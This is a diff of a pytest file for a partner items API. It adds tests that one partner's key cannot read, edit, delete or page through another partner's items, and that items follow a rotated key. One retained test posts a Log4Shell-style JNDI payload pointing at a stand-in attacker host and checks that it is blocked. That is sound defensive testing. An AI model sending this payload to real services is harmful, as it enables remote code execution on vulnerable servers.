@@ -2,8 +2,11 @@
 
 import json
 import time
+import uuid
 from collections import Counter
+from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
+from contextlib import suppress
 
 import pytest
 
@@ -127,3 +130,104 @@ def test_known_bad_input_is_blocked_in_a_body_too(partner: PartnerApi) -> None:
     answer = partner.call("POST", "/items", item={"text": "${jndi:ldap://evil.example/a}"})
 
     assert (answer.status, answer.error["code"]) == (403, "request_blocked")
+
+
+@pytest.fixture(scope="module")
+def second(partner: PartnerApi) -> Iterator[tuple[str, str]]:
+    """Id and value of another partner's key."""
+    with partner.another_partner() as key:
+        yield key
+
+
+def test_an_item_of_one_partner_is_not_there_for_another(
+    partner: PartnerApi, second: tuple[str, str]
+) -> None:
+    item_id = f"test-{uuid.uuid4()}"
+    created = partner.call("POST", "/items", item={"id": item_id, "name": "Mug"})
+    path = f"/items/{item_id}"
+
+    answers = [
+        partner.call("GET", path, key=second[1]),
+        partner.call("PUT", path, item={"name": "Cup"}, key=second[1]),
+        partner.call("PUT", path, item={}, key=second[1], headers={"if-match": '"1"'}),
+        partner.call("PUT", path, item={}, key=second[1], headers={"if-match": '"7"'}),
+        partner.call("DELETE", path, key=second[1]),
+    ]
+
+    assert {(each.status, each.error["code"]) for each in answers} == {(404, "item_not_found")}
+    assert partner.call("GET", path).data == created.data
+    assert partner.call("DELETE", path).status == 200
+
+
+def test_two_partners_may_use_one_id(partner: PartnerApi, second: tuple[str, str]) -> None:
+    item_id = f"test-{uuid.uuid4()}"
+    path = f"/items/{item_id}"
+
+    ours = partner.call("POST", "/items", item={"id": item_id, "name": "Mug"})
+    theirs = partner.call("POST", "/items", item={"id": item_id, "name": "Cup"}, key=second[1])
+
+    assert (ours.status, theirs.status) == (201, 201)
+    assert partner.call("DELETE", path, key=second[1]).data["item"]["name"] == "Cup"
+    assert partner.call("DELETE", path).data["item"]["name"] == "Mug"
+
+
+def test_a_list_holds_ones_own_items_and_its_cursor_opens_no_other(
+    partner: PartnerApi, second: tuple[str, str]
+) -> None:
+    paths: dict[str, set[str]] = {}
+    for key in (partner.key, second[1]):
+        made = [partner.call("POST", "/items", item={}, key=key) for _ in range(3)]
+        paths[key] = {answer.data["item"]["id"] for answer in made}
+
+    listed = {item["id"] for item in _listed(partner, second[1])}
+    cursor = partner.call("GET", "/items?limit=1").data["cursor"]
+    with_ours = partner.call("GET", f"/items?cursor={cursor}", key=second[1])
+
+    assert listed == paths[second[1]]
+    assert paths[partner.key] <= {item["id"] for item in _listed(partner, partner.key)}
+    assert (with_ours.status, with_ours.error["code"]) == (400, "invalid_cursor")
+    for key, ids in paths.items():
+        for item_id in ids:
+            assert partner.call("DELETE", f"/items/{item_id}", key=key).status == 200
+
+
+def test_items_follow_a_rotated_key_as_the_documentation_says(
+    partner: PartnerApi, second: tuple[str, str], deployment: Deployment
+) -> None:
+    dynamodb = deployment.client("dynamodb")
+    table = partner.outputs["DynamoDBTableName"]
+    with partner.another_partner() as (new_id, new_value):
+        made = partner.call("POST", "/items", item={"name": "Mug"}, key=second[1]).data["item"]
+        kept = partner.call("POST", "/items", item={"name": "New"}, key=new_value).data["item"]
+
+        for _ in range(2):  # a second run is harmless
+            found = dynamodb.query(
+                TableName=table,
+                KeyConditionExpression="#o = :o",
+                ExpressionAttributeNames={"#o": "owner"},
+                ExpressionAttributeValues={":o": {"S": second[0]}},
+            )["Items"]
+            for item in found:
+                with suppress(dynamodb.exceptions.ConditionalCheckFailedException):
+                    dynamodb.put_item(
+                        TableName=table,
+                        Item=item | {"owner": {"S": new_id}},
+                        ConditionExpression="attribute_not_exists(id)",
+                    )
+
+        moved = partner.call("GET", f"/items/{made['id']}", key=new_value)
+        assert moved.data["item"] == made
+        for item_id in (made["id"], kept["id"]):
+            assert partner.call("DELETE", f"/items/{item_id}", key=new_value).status == 200
+    assert partner.call("DELETE", f"/items/{made['id']}", key=second[1]).status == 200
+
+
+def _listed(partner: PartnerApi, key: str) -> list[dict[str, object]]:
+    """Every item that a key lists."""
+    found, cursor = [], ""
+    while True:
+        page = partner.call("GET", f"/items?limit=2{cursor}", key=key).data
+        found += page["items"]
+        if page["cursor"] is None:
+            return found
+        cursor = f"&cursor={page['cursor']}"
